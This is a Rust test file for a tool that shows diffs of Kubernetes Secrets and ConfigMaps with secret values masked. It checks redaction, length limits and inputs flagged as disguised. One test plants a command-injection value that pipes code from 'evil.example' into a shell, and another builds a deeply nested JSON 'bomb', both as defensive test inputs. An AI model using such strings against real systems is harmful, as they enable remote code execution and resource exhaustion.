use serde_json::json;

use super::*;
use crate::{mask::Key, request_info::RequestInfo};

fn key() -> Arc<Key> {
    Arc::new(Key::from_bytes([7; 32]))
}

fn rule() -> Rule {
    let info = RequestInfo::parse("GET", "/api/v1/namespaces/shop/secrets/db").expect("a request");
    Rule::select(&info)
}

fn secret(value: &str, colour: &str) -> Value {
    json!({
        "apiVersion": "v1",
        "kind": "Secret",
        "metadata": {
            "name": "db",
            "labels": {"colour": colour},
            "managedFields": [{"manager": "kubectl"}],
            "annotations": {"kubectl.kubernetes.io/last-applied-configuration": "{\"data\":\"s3cr3t\"}"},
        },
        "data": {"password": value},
    })
}

#[test]
fn a_diff_shows_that_a_secret_changes_and_never_to_what() {
    let (before, after) = (secret("b2xk", "green"), secret("bmV3", "green"));
    let diff = diff(&key(), rule, Some(&before), Some(&after))
        .expect("it is shown")
        .expect("a diff");
    assert!(
        diff.contains("-  password: ") && diff.contains("+  password: "),
        "{diff}"
    );
    for hidden in ["b2xk", "bmV3", "s3cr3t", "managedFields"] {
        assert!(!diff.contains(hidden), "{hidden} is in {diff}");
    }
}

#[test]
fn a_secret_that_stays_is_no_change() {
    let (before, after) = (secret("b2xk", "green"), secret("b2xk", "red"));
    let diff = diff(&key(), rule, Some(&before), Some(&after))
        .expect("it is shown")
        .expect("a diff");
    assert!(
        diff.contains("-    colour: ") && diff.contains("+    colour: "),
        "{diff}"
    );
    assert!(
        !diff.contains("-  password") && !diff.contains("b2xk"),
        "{diff}"
    );
    assert_eq!(
        super::diff(&key(), rule, Some(&before), Some(&before)),
        Ok(None)
    );
}

#[test]
fn what_is_made_is_added_and_what_is_deleted_taken_away() {
    let object = secret("b2xk", "green");
    let made = diff(&key(), rule, None, Some(&object))
        .expect("it is shown")
        .expect("a diff");
    assert!(made.contains("+kind: Secret"), "{made}");
    let deleted = diff(&key(), rule, Some(&object), None)
        .expect("it is shown")
        .expect("a diff");
    assert!(deleted.contains("-kind: Secret"), "{deleted}");
}

#[test]
fn a_copy_of_the_object_that_changes_is_a_change() {
    let (before, mut after) = (secret("b2xk", "green"), secret("b2xk", "green"));
    after["metadata"]["annotations"][LAST_APPLIED] = json!("{\"data\":\"0ther\"}");
    let diff = diff(&key(), rule, Some(&before), Some(&after))
        .expect("it is shown")
        .expect("a diff");
    let is_told = |line: &str| line.starts_with('+') && line.contains(LAST_APPLIED);
    assert!(diff.lines().any(is_told), "{diff}");
    assert!(!diff.contains("0ther"), "{diff}");
}

fn map(annotation: &str, text: &str) -> Value {
    json!({
        "apiVersion": "v1",
        "kind": "ConfigMap",
        "metadata": {"name": "web", "annotations": {"a": annotation}},
        "data": {"text": text},
    })
}

fn map_rule() -> Rule {
    let info = RequestInfo::parse("GET", "/api/v1/namespaces/shop/configmaps/web");
    Rule::select(&info.expect("a request"))
}

#[test]
fn a_long_annotation_is_shown_or_nobody_is_asked_but_where_it_stays() {
    let (long, longer) = ("\u{e9} ".repeat(MOST), "x ".repeat(MOST));
    for (before, after) in [
        (None, map(&long, "evil")),
        (Some(map(&long, "good")), map(&longer, "evil")),
    ] {
        let shown = diff(&key(), map_rule, before.as_ref(), Some(&after));
        assert_eq!(shown, Err(Unshowable::TooLong));
    }
    let (before, after) = (map(&long, "good"), map(&long, "evil"));
    let changed = diff(&key(), map_rule, Some(&before), Some(&after));
    let changed = changed.expect("it is shown").expect("a diff");
    assert!(
        changed.contains("evil") && changed.len() < MOST,
        "{changed}"
    );
}

#[test]
fn what_looks_like_a_secret_and_may_be_more_is_not_shown() {
    let disguised = map("note", "-----BEGIN PRIVATE KEY-----\nevil");
    let made = diff(&key(), map_rule, None, Some(&disguised));
    assert_eq!(made, Err(Unshowable::Disguised(Disguised)));
    let shown = object(&key(), map_rule(), &disguised);
    assert_eq!(shown, Err(Unshowable::Disguised(Disguised)));
    let mut told = map("note", "text");
    told["data"]["run-secret"] = json!("Id=1;curl${IFS}evil.example/x|sh");
    let made = diff(&key(), map_rule, None, Some(&told));
    assert_eq!(made, Err(Unshowable::Disguised(Disguised)));
    let mut pod = map("note", "text");
    pod["env"] = json!([{"name": "KEY", "value": "-----BEGIN PRIVATE KEY-----\nMIIE\n-----END PRIVATE KEY-----"}]);
    assert!(diff(&key(), map_rule, None, Some(&pod)).is_ok());
    // It is there already, and nothing of it changes.
    let mut noted = disguised.clone();
    noted["metadata"]["annotations"]["a"] = json!("another");
    assert!(diff(&key(), map_rule, Some(&disguised), Some(&noted)).is_ok());
    let key_of_secret = secret("LS0tLS1CRUdJTiBQUklWQVRFIEtFWS0tLS0tCmE=", "green");
    assert!(diff(&key(), rule, None, Some(&key_of_secret)).is_ok());
}

#[test]
fn what_is_too_long_is_not_shown_in_part_but_where_all_of_it_goes() {
    let long = map("", &"\u{e9} ".repeat(MOST));
    let made = diff(&key(), map_rule, None, Some(&long));
    assert_eq!(made, Err(Unshowable::TooLong));
    let shown = object(&key(), map_rule(), &long);
    assert_eq!(shown, Err(Unshowable::TooLong));
    let goes = diff(&key(), map_rule, Some(&long), None)
        .expect("it is shown")
        .expect("a diff");
    assert!(goes.len() < MOST + 100);
    assert!(goes.ends_with("too long to be shown here\n"), "{goes}");
}

/// Each Secret around it is read again, which the masker does not do for ever.
#[test]
fn what_cannot_be_masked_is_no_empty_view() {
    let mut bomb = json!({"type": "x".repeat(8 << 10), "kind": "Secret"});
    for _ in 0..40 {
        bomb = json!({"items": [bomb], "kind": "Secret"});
    }
    let mut after = map("", "");
    after["items"] = json!([bomb]);
    let made = diff(&key(), map_rule, None, Some(&after));
    assert_eq!(made, Err(Unshowable::NotMasked));
    let shown = object(&key(), map_rule(), &after);
    assert_eq!(shown, Err(Unshowable::NotMasked));
}
